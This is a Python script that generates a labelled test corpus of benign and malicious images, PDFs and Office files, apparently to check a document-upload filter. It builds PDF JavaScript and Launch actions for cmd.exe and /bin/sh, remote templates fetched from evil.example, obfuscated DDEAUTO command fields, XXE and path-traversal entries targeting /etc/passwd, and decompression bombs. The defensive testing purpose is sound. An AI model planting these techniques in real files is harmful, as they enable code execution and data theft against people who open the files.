"""Writes files as other programs make them: good ones, and families of hostile ones.

    files.py FOLDER

The folder gets a `list.json`: for each file its path, its family (for a good one: none), and
the codes with which it may be refused. Nothing is drawn by chance.
"""

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pikepdf
import pypdf
from fpdf import FPDF
from openpyxl.chart import BarChart, Reference
from PIL import Image
from pikepdf import Array, Dictionary, Name, String
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

CHANCE = random.Random(2026)
DAMAGED, ENCRYPTED, EXCESSIVE = "file_damaged", "file_encrypted", "file_excessive"
ACTIVE, INSIDE, MISMATCH = "file_active_content", "file_with_attachment", "file_type_mismatch"


class Corpus:
    def __init__(self, root):
        self.root, self.files = Path(root), []

    def add(self, name, content, family=None, codes=()):
        path = self.root / (family or "good") / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        self.files.append({"path": str(path), "family": family, "codes": list(codes)})

    def good(self, name, content):
        self.add(name, content)

    def bad(self, family, name, content, *codes):
        self.add(name, content, family, codes)

    def close(self):
        (self.root / "list.json").write_text(json.dumps(self.files, indent=1))


# ---------------------------------------------------------------- pictures

def photograph(width=160, height=120):
    image = Image.new("RGB", (width, height))
    image.putdata([(CHANCE.randrange(256), x % 256, x // width % 256) for x in range(width * height)])
    return image


def saved(image, kind, **options):
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_size(width, height):
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_of_size(jpeg, width, height):
    at = next(at for at in range(len(jpeg)) if jpeg[at] == 0xFF and jpeg[at + 1] in (0xC0, 0xC2))
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def pictures(corpus):
    photo = photograph()
    jpeg, png = saved(photo, "JPEG"), saved(photo, "PNG")
    corpus.good("plain.jpg", jpeg)
    corpus.good("progressive.jpg", saved(photo, "JPEG", progressive=True))
    corpus.good("gray.jpeg", saved(photo.convert("L"), "JPEG"))
    corpus.good("cmyk.jpg", saved(photo.convert("CMYK"), "JPEG"))
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Dien thoai", "Mau 26"
    corpus.good("phone.jpg", saved(photo, "JPEG", exif=exif, quality=95, dpi=(300, 300)))
    corpus.good("moving.jpg", jpeg + b"\0\0\0\x18ftypmp42" + CHANCE.randbytes(3000))
    corpus.good("plain.png", png)
    corpus.good("palette.png", saved(photo.convert("P"), "PNG"))
    corpus.good("deep.png", saved(Image.new("I;16", (40, 30), 3000), "PNG"))
    corpus.good("clear.png", saved(photo.convert("RGBA"), "PNG", dpi=(200, 200)))
    corpus.good("moving.png", saved(photo, "PNG", save_all=True, append_images=[photograph()]))

    for width, height in [(100_000, 100_000), (2_000_000_000, 2), (65_000, 65_000)]:
        corpus.bad("png-of-a-billion-pixels", f"{width}.png", png_of_size(width, height), EXCESSIVE, DAMAGED)
    for width, height in [(65_000, 65_000), (65_535, 2_000)]:
        corpus.bad("jpeg-of-a-billion-pixels", f"{width}.jpg", jpeg_of_size(jpeg, width, height), EXCESSIVE)
    corpus.bad("jpeg-without-pixels", "zero.jpg", jpeg_of_size(jpeg, 0, 120), DAMAGED)
    for share in (1, 5, 9):
        corpus.bad("png-cut", f"{share}.png", png[: len(png) * share // 10], DAMAGED, MISMATCH)
        corpus.bad("jpeg-cut", f"{share}.jpg", jpeg[: len(jpeg) * share // 10], DAMAGED, MISMATCH)
    flipped = bytearray(png)
    flipped[len(png) // 2] ^= 1
    corpus.bad("png-with-a-wrong-sum", "flipped.png", bytes(flipped), DAMAGED)
    corpus.bad("png-that-unpacks-to-too-little", "short.png", png_of_size(2000, 2000), DAMAGED)
    archive = package({"evil.exe": b"MZ"})
    corpus.bad("picture-and-archive", "both.jpg", jpeg + archive, MISMATCH)
    corpus.bad("picture-and-archive", "both.png", png + archive, MISMATCH)
    comment = b"\xff\xfe" + struct.pack(">H", 30) + b"<script>alert(1)</script>   "
    corpus.bad("picture-and-page", "comment.jpg", jpeg[:2] + comment + jpeg[2:], MISMATCH)
    corpus.bad("picture-and-page", "text.png", png[:33] + chunk(b"tEXt", b"a\0<html><script>") + png[33:], MISMATCH)
    corpus.bad("picture-and-pdf", "both.jpg", jpeg[:2] + b"\xff\xfe\0\x10%PDF-1.4 1 0 ob" + jpeg[2:], MISMATCH)

    gif = saved(photo.convert("P"), "GIF")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for name, content in [("a.png", gif), ("a.jpg", png), ("b.png", jpeg), ("b.jpg", svg), ("c.pdf", svg),
                          ("d.pdf", b"MZ" + bytes(200)), ("e.pdf", jpeg), ("f.docx", b"\x7fELF" + bytes(200)),
                          ("g.jpg", b"<html></html>"), ("h.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))]:
        corpus.bad("another-type-by-its-content", name, content, MISMATCH)


# ---------------------------------------------------------------- PDF

def drawn(pages=1):
    out = io.BytesIO()
    paper = canvas.Canvas(out, pagesize=A4)
    for page in range(pages):
        paper.drawString(80, 700, f"Trang {page + 1}: (JavaScript) /Launch in a page's text")
        paper.drawInlineImage(photograph(40, 30), 80, 500)
        paper.bookmarkPage(str(page))
        paper.addOutlineEntry(f"Trang {page + 1}", str(page))
        paper.showPage()
    paper.save()
    return out.getvalue()


def changed(change, **options):
    """A good document with one change."""
    with pikepdf.open(io.BytesIO(drawn(2))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **options)
        return out.getvalue()


def script(code="app.alert(1)"):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def raw_pdf(objects, trailer="/Root 1 0 R", head=b"%PDF-1.7\n"):
    """A document from the text of its objects, with right references."""
    out, offsets = bytearray(head), []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        content = content if isinstance(content, bytes) else content.encode()
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010} 00000 n \n".encode()
    out += f"trailer\n<</Size {len(objects) + 1} {trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


PAGES = ["<</Type/Catalog/Pages 2 0 R %s>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
         "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300] %s>>"]


def simple(catalog="", page="", more=()):
    return raw_pdf([PAGES[0] % catalog, PAGES[1], PAGES[2] % page, *more])


def stream(dictionary, content):
    return f"<<{dictionary}/Length {len(content)}>>\nstream\n".encode() + content + b"\nendstream"


def good_pdfs(corpus):
    corpus.good("drawn.pdf", drawn(3))
    paper = FPDF()
    paper.add_page()
    paper.set_font("helvetica", size=14)
    paper.cell(text="To khai dang ky khai sinh", link="https://example.org/")
    corpus.good("fpdf.pdf", bytes(paper.output()))
    corpus.good("scan.pdf", saved(photograph(), "PDF", save_all=True, append_images=[photograph()]))
    packed = pikepdf.ObjectStreamMode.generate
    corpus.good("packed.pdf", changed(lambda pdf: None, object_stream_mode=packed, compress_streams=True))
    corpus.good("linear.pdf", changed(lambda pdf: None, linearize=True))
    plain = changed(lambda pdf: None, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    corpus.good("plain.pdf", plain)

    def opens_at(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])
        pdf.docinfo[Name.Title] = "Hướng dẫn JavaScript và Launch"

    corpus.good("opens.pdf", changed(opens_at))

    def form(pdf):
        field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("ho_ten"), Type=Name.Annot, Subtype=Name.Widget,
                                             Rect=Array([10, 10, 100, 30])))
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    corpus.good("form.pdf", changed(form))
    writer = pypdf.PdfWriter(io.BytesIO(drawn(2)), incremental=True)
    writer.add_metadata({"/Author": "Cong dan"})
    out = io.BytesIO()
    writer.write(out)
    corpus.good("added.pdf", out.getvalue())
    corpus.good("many.pdf", drawn(60))
    corpus.good("tail.pdf", drawn(1) + b"\r\n\0\0\0")
    corpus.good("moved.pdf", simple().replace(b"startxref\n", b"startxref\n1"))


def bad_pdfs(corpus):
    bad, good = corpus.bad, drawn(2)
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}

    def set_action(place):
        def change(pdf):
            action = pdf.make_indirect(script())
            if place == "open":
                pdf.Root.OpenAction = action
            elif place == "page":
                pdf.pages[0].obj.AA = Dictionary(O=action)
            elif place == "names":
                pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))
            elif place == "link":
                note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
                pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
        return change

    for place in ("open", "page", "names", "link"):
        bad(f"pdf-script-at-{place}", "plain.pdf", changed(set_action(place)), ACTIVE)
        bad(f"pdf-script-at-{place}", "packed.pdf", changed(set_action(place), **packed), ACTIVE)
    action = "/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>"
    bad("pdf-script-in-escapes", "letter.pdf", simple(action), ACTIVE)
    bad("pdf-script-in-escapes", "all.pdf",
        simple("/OpenAction<</S/#4A#61#76#61#53#63#72#69#70#74/#4A#53(x)>>"), ACTIVE)
    bad("pdf-script-in-a-rendition", "rendition.pdf", simple("/OpenAction<</S/Rendition/JS(app.alert\\(1\\))>>"), ACTIVE)

    hidden = b"9 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"
    bad("pdf-script-that-no-reference-names", "between.pdf", good.replace(b"xref\n", hidden + b"xref\n", 1), ACTIVE)
    bad("pdf-script-that-no-reference-names", "behind.pdf", good + hidden, ACTIVE)
    added = good + b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(1)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    bad("pdf-script-added-later", "added.pdf", added, ACTIVE, DAMAGED)

    inner = b"4 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    for filters, content in [("/Filter[/ASCII85Decode/FlateDecode]", None), ("/Filter/ASCIIHexDecode", inner.hex().encode() + b">"),
                             ("/Filter/LZWDecode", inner), ("/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(inner)))]:
        content = content or __import__("base64").a85encode(zlib.compress(inner)) + b"~>"
        name = "".join(letter for letter in filters if letter.isalnum()) + ".pdf"
        bad("pdf-objects-packed-oddly", name,
            simple(more=[stream(f"/Type/ObjStm/N 1/First 4{filters}", content)]), MISMATCH, ACTIVE)

    def act(dictionary):
        return changed(lambda pdf: pdf.Root.__setattr__("OpenAction", pdf.make_indirect(dictionary)))

    bad("pdf-starts-a-program", "win.pdf", act(Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))), ACTIVE)
    bad("pdf-starts-a-program", "file.pdf", act(Dictionary(S=Name.Launch, F=String("/bin/sh"))), ACTIVE)
    bad("pdf-sends-its-form", "submit.pdf", act(Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))), ACTIVE)
    bad("pdf-fetches-data", "import.pdf", act(Dictionary(S=Name.ImportData, F=String("\\\\evil\\share"))), ACTIVE)
    bad("pdf-goes-into-an-embedded-file", "goto.pdf", act(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))), ACTIVE)

    def attach(pdf):
        pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100))

    bad("pdf-with-a-file-inside", "plain.pdf", changed(attach), INSIDE)
    bad("pdf-with-a-file-inside", "packed.pdf", changed(attach, **packed), INSIDE)
    note = "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)>>>>]"
    bad("pdf-with-a-file-inside", "note.pdf", simple(page=note), INSIDE)
    bad("pdf-with-media", "media.pdf", simple(page="/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]"), INSIDE)
    bad("pdf-with-an-xml-form", "xfa.pdf", simple("/AcroForm<</Fields[]/XFA(<xdp/>)>>"), ACTIVE)

    for name, encryption in [("user", pikepdf.Encryption(user="a", owner="b")),
                             ("owner", pikepdf.Encryption(user="", owner="b")),
                             ("old", pikepdf.Encryption(user="", owner="b", R=3, metadata=False, aes=False))]:
        bad("pdf-with-a-password", f"{name}.pdf", changed(lambda pdf: None, encryption=encryption), ENCRYPTED)
    bad("pdf-with-a-password", "packed.pdf",
        changed(lambda pdf: None, encryption=pikepdf.Encryption(user="a", owner="b"), **packed), ENCRYPTED)

    for share in (1, 3, 5):
        bad("pdf-cut", f"{share}.pdf", good[: len(good) * share // 10], DAMAGED)
    bad("pdf-of-noise", "head.pdf", b"%PDF-1.7\n", DAMAGED, MISMATCH)
    bad("pdf-of-noise", "noise.pdf", b"%PDF-1.7\n" + CHANCE.randbytes(50_000), DAMAGED)
    bad("pdf-of-noise", "letters.pdf", b"%PDF-1.4\n" + b"a" * 5000 + b"\n%%EOF\n", DAMAGED)
    bad("pdf-without-pages", "empty.pdf", raw_pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"]), DAMAGED)
    bad("pdf-without-pages", "rootless.pdf", raw_pdf(["<</Type/Info>>"]), DAMAGED)
    circle = raw_pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])
    bad("pdf-whose-pages-go-in-a-circle", "circle.pdf", circle, DAMAGED)

    bomb = zlib.compress(b" " * 100_000_000, 9)
    bad("pdf-that-unpacks-to-too-much", "one.pdf", simple(more=[stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb)]), EXCESSIVE)
    part = zlib.compress(b" " * 3_000_000, 9)
    bad("pdf-that-unpacks-to-too-much", "many.pdf",
        simple(more=[stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", part)] * 30), EXCESSIVE)
    references = stream("/Type/XRef/W[1 2 1]/Size 9/Root 1 0 R/Filter/FlateDecode", bomb)
    bad("pdf-that-unpacks-to-too-much", "references.pdf", simple(more=[references]), EXCESSIVE)
    many = ["<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Count 2500/Kids[%s]>>" % " ".join(f"{n} 0 R" for n in range(3, 2503))]
    many += ["<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * 2500
    bad("pdf-of-too-many-pages", "pages.pdf", raw_pdf(many), EXCESSIVE)
    for name, deep in [("arrays", "[" * 100_000), ("dictionaries", "<</A" * 50_000), ("strings", "(" * 100_000)]:
        bad("pdf-nested-without-end", f"{name}.pdf", b"%PDF-1.7\n1 0 obj " + deep.encode() + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF", DAMAGED)
    bad("pdf-and-archive", "both.pdf", good + package({"a.html": b"<script>"}), MISMATCH)
    bad("pdf-and-page", "both.pdf", b"%PDF-1.7\n<html><script>alert(1)</script>\n" + good[9:], MISMATCH)


# ---------------------------------------------------------------- packages

def package(parts, mode=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", mode) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def written():
    document = docx.Document()
    document.add_heading("Đơn đề nghị", 1)
    document.add_paragraph("Kính gửi: Ủy ban nhân dân phường Hồng Gai. DDE là một kỹ thuật cũ.")
    document.add_table(2, 2)
    document.add_picture(io.BytesIO(saved(photograph(), "PNG")))
    document.sections[0].header.paragraphs[0].text = "Cộng hòa xã hội chủ nghĩa Việt Nam"
    part = document.part
    part.relate_to("https://example.org/", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
                   is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def table():
    book = openpyxl.Workbook()
    sheet = book.active
    for row in range(1, 20):
        sheet.append([row, row * 2, f"=A{row}+B{row}"])
    sheet["D1"].hyperlink = "https://example.org/"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=19))
    sheet.add_chart(chart, "F2")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_part(content, **parts):
    return package({**parts_of(content), **parts})


def replaced(content, name, old, new):
    parts = parts_of(content)
    assert old in parts[name], (name, old)
    parts[name] = parts[name].replace(old, new)
    return package(parts)


def related(content, kind, target, part="word/_rels/document.xml.rels"):
    relation = (f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
                f'Target="{target}" TargetMode="External"/></Relationships>')
    return replaced(content, part, b"</Relationships>", relation.encode())


def fields(*runs):
    return b"<w:p>" + "".join(f"<w:r>{run}</w:r>" for run in runs).encode() + b"</w:p>"


def packages(corpus):
    bad, word, sheet = corpus.bad, written(), table()
    corpus.good("plain.docx", word)
    corpus.good("plain.xlsx", sheet)
    corpus.good("stored.docx", package(parts_of(word), zipfile.ZIP_STORED))
    corpus.good("diagram.docx", with_part(word, **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": sheet}))
    corpus.good("fields.docx", replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + fields(
        "<w:instrText> PAGE </w:instrText>", "<w:t>DDE - AUTO</w:t>", "<w:instrText> REF DDE </w:instrText>")))

    bad("package-with-macros", "project.docx", with_part(word, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)
    bad("package-with-macros", "project.xlsx", with_part(sheet, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)
    bad("package-with-macros", "type.docx", replaced(
        word, "[Content_Types].xml", b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml"), ACTIVE, MISMATCH)
    bad("package-with-controls", "activex.docx", with_part(word, **{"word/activeX/activeX1.bin": b"x"}), ACTIVE)
    bad("package-with-objects", "ole.docx", with_part(word, **{"word/embeddings/oleObject1.bin": b"x"}), INSIDE)
    bad("package-with-objects", "ole.xlsx", with_part(sheet, **{"xl/embeddings/oleObject1.bin": b"x"}), INSIDE)
    for name in ("setup.exe", "word/media/run.vbs", "a.lnk", "customXml/x.hta", "word/x.jar"):
        bad("package-with-programs", name.replace("/", "-") + ".docx", with_part(word, **{name: b"MZ"}), INSIDE)
    settings = parts_of(word)
    settings["word/_rels/settings.xml.rels"] = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    bad("package-with-a-template-from-elsewhere", "http.docx",
        related(package(settings), "attachedTemplate", "http://evil.example/a.dotm", "word/_rels/settings.xml.rels"), ACTIVE)
    bad("package-with-a-template-from-elsewhere", "share.docx",
        related(package(settings), "attachedTemplate", "file://evil/share/a.dotm", "word/_rels/settings.xml.rels"), ACTIVE)
    for kind in ("oleObject", "frame", "subDocument", "image"):
        bad("package-with-content-from-elsewhere", f"{kind}.docx", related(word, kind, "http://evil.example/a"), ACTIVE)
    relations = "word/_rels/settings.xml.rels"
    for name, kind, mode in [("letter", "attached&#84;emplate", "External"), ("mode", "attachedTemplate", "Extern&#97;l"),
                             ("zeros", "attached&#x00000000054;emplate", "&#x45;xternal"), ("space", "attachedTemplate ", "External")]:
        bad("package-with-a-hidden-template-from-elsewhere", f"{name}.docx", replaced(
            related(package(settings), kind, "http://evil.example/a.dotm", relations),
            relations, b'TargetMode="External"', f'TargetMode="{mode}"'.encode()), ACTIVE)
    apart = {name: part for name, part in settings.items() if name != relations}
    template = parts_of(related(package(settings), "attachedTemplate", "http://evil.example/a.dotm", relations))[relations]
    bad("package-with-a-hidden-template-from-elsewhere", "large.docx",
        package({**apart, "word/_rels/Settings.xml.RELS": template}), ACTIVE)
    bad("package-with-a-hidden-template-from-elsewhere", "utf7.docx", package(
        {**apart, relations: template.replace(b'?xml version="1.0"?', b'?xml version="1.0" encoding="UTF-7"?')}), DAMAGED)
    padding = b"<!--" + b" " * 1_100_000 + b"-->"
    bad("package-with-relations-behind-a-padding", "relations.docx", replaced(
        related(package(settings), "attachedTemplate", "http://evil.example/a.dotm", relations),
        relations, b"<Relationship ", padding + b"<Relationship "), EXCESSIVE)
    bad("package-with-relations-behind-a-padding", "types.docx",
        replaced(word, "[Content_Types].xml", b"<Default ", padding + b"<Default "), EXCESSIVE)

    for ending in ("rtf", "mht", "mhtml", "htm", "HTML", "docm", "dotm"):
        bad("package-with-a-document-for-a-piece", f"{ending}.docx", with_part(word, **{f"word/piece.{ending}": b"x"}), INSIDE)
    piece = (b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
             b'Target="piece.dat"/></Relationships>')
    bad("package-with-a-document-for-a-piece", "dat.docx", replaced(
        with_part(word, **{"word/piece.dat": b"{\\rtf1}"}), "word/_rels/document.xml.rels", b"</Relationships>", piece), INSIDE)
    field = b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    bad("package-with-dynamic-data", "auto.docx", replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + field), ACTIVE)
    bad("package-with-dynamic-data", "plain.docx",
        replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + field.replace(b"DDEAUTO", b"DDE")), ACTIVE)
    for name, runs in [
        ("letter", ["<w:instrText> DDE&#65;UTO cmd</w:instrText>"]),
        ("letters", ["<w:instrText> &#x0000044;&#68;&#x45; cmd</w:instrText>"]),
        ("small", ["<w:instrText> ddeauto cmd</w:instrText>"]),
        ("pieces", ["<w:instrText> DD</w:instrText>", "<w:t>x</w:t>", "<w:instrText xml:space='preserve'>EAUTO cmd</w:instrText>"]),
        ("comments", ["<w:instrText>D<!-- '> -->DE</w:instrText>", "<w:instrText><![CDATA[AUTO cmd]]></w:instrText>"]),
        ("simple", ["</w:r><w:fldSimple w:instr=' DD&#69;AUTO cmd'><w:r/></w:fldSimple><w:r>"]),
    ]:
        bad("package-with-hidden-dynamic-data", f"{name}.docx",
            replaced(word, "word/document.xml", b"<w:body>", b"<w:body>" + fields(*runs)), ACTIVE)
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    bad("package-with-dynamic-data", "link.xlsx", with_part(sheet, **{"xl/externalLinks/externalLink1.xml": link}), ACTIVE)

    bad("package-that-unpacks-to-too-much", "one.docx", with_part(word, **{"word/a.xml": b" " * 50_000_000}), EXCESSIVE)
    bad("package-that-unpacks-to-too-much", "many.xlsx",
        with_part(sheet, **{f"xl/{n}.bin": b"\0" * 4_000_000 for n in range(10)}), EXCESSIVE)
    bad("package-of-too-many-parts", "parts.docx", with_part(word, **{f"word/{n}.xml": b"" for n in range(6000)}), EXCESSIVE, MISMATCH)
    lie = bytearray(with_part(word, **{"word/a.bin": b"\0" * 50_000_000}))
    at = lie.rfind(b"PK\x01\x02", 0, lie.rfind(b"word/a.bin"))
    lie[at + 24 : at + 28] = struct.pack("<I", 10)
    bad("package-that-lies-about-its-size", "size.docx", bytes(lie), EXCESSIVE, DAMAGED)
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word/..\\..\\x.xml", "C:/x.xml"):
        bad("package-that-leaves-its-folder", str(len(name)) + ".docx", with_part(word, **{name: b"x"}), MISMATCH, DAMAGED)
    out = io.BytesIO(word)
    with zipfile.ZipFile(out, "a") as archive:
        one = zipfile.ZipInfo("word/link.xml")
        one.create_system, one.external_attr = 3, 0o120777 << 16
        archive.writestr(one, "/etc/passwd")
    bad("package-with-a-link", "link.docx", out.getvalue(), MISMATCH)
    out = io.BytesIO(word)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<another/>")
    bad("package-with-two-parts-of-one-name", "same.docx", out.getvalue(), MISMATCH)
    bad("package-with-two-parts-of-one-name", "case.docx", with_part(word, **{"WORD/Document.xml": b"<a/>"}), MISMATCH)
    locked = bytearray(word)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        here = locked.find(mark)
        while here >= 0:
            locked[here + at] |= 1
            here = locked.find(mark, here + 4)
    bad("package-with-a-password", "locked.docx", bytes(locked), ENCRYPTED, DAMAGED)
    entities = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><a>&b;</a>'
    bad("package-with-entities", "bomb.docx", with_part(word, **{"word/document.xml": entities}), DAMAGED)
    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    bad("package-with-entities", "file.xlsx", with_part(sheet, **{"xl/workbook.xml": outside}), DAMAGED)
    bad("package-with-entities", "wide.docx",
        with_part(word, **{"word/document.xml": entities.decode().encode("utf-16")}), DAMAGED)
    bad("package-with-something-before-it", "program.docx", b"PK\x03\x04" + bytes(100) + word, MISMATCH, DAMAGED)
    for share in (2, 9):
        bad("package-cut", f"{share}.docx", word[: len(word) * share // 10], DAMAGED, MISMATCH)
    wrong = bytearray(word)
    wrong[200] ^= 0xFF
    bad("package-with-a-wrong-sum", "flipped.docx", bytes(wrong), DAMAGED)
    bad("package-of-something-else", "archive.docx", package({"a.txt": b"a"}), MISMATCH, DAMAGED)
    bad("package-of-something-else", "table.docx", sheet, MISMATCH, DAMAGED)
    bad("package-of-something-else", "text.xlsx", word, MISMATCH, DAMAGED)
    nameless = parts_of(word)
    del nameless["[Content_Types].xml"]
    bad("package-without-types", "typeless.docx", package(nameless), DAMAGED, MISMATCH)


def main():
    corpus = Corpus(sys.argv[1])
    pictures(corpus)
    good_pdfs(corpus)
    bad_pdfs(corpus)
    packages(corpus)
    corpus.close()


main()
